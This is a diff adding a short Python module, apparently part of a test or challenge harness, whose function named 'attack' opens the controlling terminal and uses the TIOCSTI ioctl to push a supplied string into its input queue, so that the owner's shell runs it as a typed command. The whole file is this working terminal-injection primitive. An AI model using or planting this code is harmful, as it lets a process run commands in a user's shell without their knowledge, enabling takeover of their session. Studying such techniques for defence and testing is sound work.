@@ -1,0 +1,13 @@
+"""Writes to the terminal that it was started from, and types a command into it that the owner's shell would run."""
+
+import fcntl
+import os
+
+TIOCSTI = 0x5412
+
+
+def attack(told: dict[str, str]) -> None:
+    terminal = os.open("/dev/tty", os.O_RDWR)
+    os.write(terminal, told["challenge"].encode())
+    for letter in told["challenge"].encode():
+        fcntl.ioctl(terminal, TIOCSTI, bytes([letter]))
